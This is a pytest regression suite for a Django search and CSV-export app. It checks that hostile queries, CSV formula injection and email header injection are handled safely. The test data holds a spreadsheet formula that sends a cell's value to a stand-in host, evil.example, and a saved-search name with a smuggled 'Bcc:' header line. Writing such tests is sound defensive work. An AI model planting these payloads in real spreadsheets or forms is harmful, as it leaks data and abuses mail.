"""Hostile input that used to take a page down or do harm elsewhere (issue 13's first findings):
each now gets a clear answer, and nothing else breaks."""
from __future__ import annotations

import csv
import io

import pytest
from django.core import mail
from django.urls import reverse

from saved import alerts
from search import engine, export
from search.engine import SearchParams
from search.ingest import ingest_paths

from .conftest import SEEDS, seed_text
from .people import ingest_new_copy, save

pytestmark = pytest.mark.django_db


@pytest.fixture
def seeds(ingested):
    ingested(SEEDS)


@pytest.mark.parametrize("q", ["radicul! /s pain", "pain /p me*", "(pa* OR pe*) /s back", "pain /5 medic*",
                               "medicat! +s pain", "zzzq* /s pain"])
def test_a_wildcard_inside_a_connector_is_answered_not_a_server_error(seeds, client, q):
    for url in (reverse("search"), reverse("api_search"), reverse("export_csv")):
        assert client.get(url, {"q": q}).status_code == 200, (url, q)
    assert engine.count(SearchParams(q=q)) >= 0


def test_a_wildcard_inside_a_connector_finds_what_its_words_find(seeds):
    words = engine.count(SearchParams(q="(medication OR medications OR medical) /s pain"))
    assert words > 0
    assert engine.count(SearchParams(q="(medicat* OR medical) /s pain")) >= engine.count(
        SearchParams(q="(medication OR medical) /s pain"))


def test_deeply_nested_parentheses_are_refused_with_a_message(seeds, client):
    q = "(" * 190 + "pain" + ")" * 190
    for url in (reverse("search"), reverse("api_search"), reverse("export_csv")):
        response = client.get(url, {"q": q})
        assert response.status_code == 400 and "nested more than" in response.content.decode()
    slug = engine.search(SearchParams()).hits[0].slug
    assert client.get(reverse("determination", args=[slug]), {"q": q}).status_code == 200
    assert engine.count(SearchParams(q="(" * 5 + "pain" + ")" * 5)) == engine.count(SearchParams(q="pain"))


def test_a_cell_that_starts_like_a_formula_is_text_in_the_export(data_dir, tmp_path, client):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    text = seed_text("000_f9e98a1e4886a13a.txt").replace("MS Contin 30mg #90: Upheld", f"{formula}: Upheld")
    path = tmp_path / "formula.txt"
    path.write_text(text)
    assert not ingest_paths([path]).refused
    body = b"".join(client.get(reverse("export_csv"), {"q": "hyperlink"}).streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows and all(row["request"].startswith("'=HYPERLINK") for row in rows)
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert export.inert("-5 mg") == "'-5 mg" and export.inert("Norco") == "Norco" and export.inert(3) == 3


def test_a_saved_search_named_over_two_lines_still_gets_its_alert(alice, seeds, tmp_path):
    saved = save(alice, "drug=diazepam", name="Valium\r\nBcc: everyone@example.org", alert_frequency="daily")
    ingest_new_copy(tmp_path)
    alerts.send_alerts()
    assert len(mail.outbox) == 1
    subject = mail.outbox[0].subject
    assert "\n" not in subject and "\r" not in subject and "Valium Bcc: everyone@example.org" in subject
    assert saved.pk


def test_a_name_typed_over_two_lines_is_saved_on_one(alice, seeds, client):
    from saved.forms import RenameForm

    form = RenameForm(data={"name": "Valium\r\nwatch"})
    assert form.is_valid() and form.cleaned_data["name"] == "Valium watch"


def test_a_broken_index_gives_503_on_the_export_and_no_server_path(seeds, client, settings):
    live = (settings.INDEX_DIR).resolve()
    for path in live.iterdir():
        if path.suffix in (".toc", ".seg") or path.name.startswith("_MAIN"):
            path.write_bytes(b"garbage")
    engine.reset()
    export_response = client.get(reverse("export_csv"), {"q": "pain"})
    assert export_response.status_code == 503 and "manage.py reindex" in export_response.content.decode()
    for url in (reverse("search"), reverse("api_search")):
        body = client.get(url, {"q": "pain"}).content.decode()
        assert "manage.py reindex" in body and str(settings.DATA_DIR) not in body


def test_a_deleted_index_folder_is_named_on_every_page_and_never_recreated_by_the_web(seeds, client, settings):
    import shutil

    live = settings.INDEX_DIR.resolve()
    shutil.rmtree(live)
    engine.reset()
    for url in (reverse("search"), reverse("api_search"), reverse("export_csv")):
        response = client.get(url, {"q": "pain"})
        body = response.content.decode()
        assert response.status_code == 503, url
        assert "manage.py reindex" in body and str(settings.DATA_DIR) not in body, url
    assert not live.exists() and not settings.INDEX_DIR.exists()


def test_migrate_gives_a_new_empty_site_an_empty_index_but_not_a_site_that_holds_determinations(seeds, settings):
    import shutil

    from search.apps import create_empty_index

    shutil.rmtree(settings.INDEX_DIR.resolve())
    create_empty_index(sender=None)
    assert not settings.INDEX_DIR.exists()  # it holds determinations: "run reindex" is the truth
    from search.models import Determination

    Determination.objects.all().delete()
    create_empty_index(sender=None)
    engine.reset()
    assert settings.INDEX_DIR.exists() and engine.count(SearchParams(q="pain")) == 0
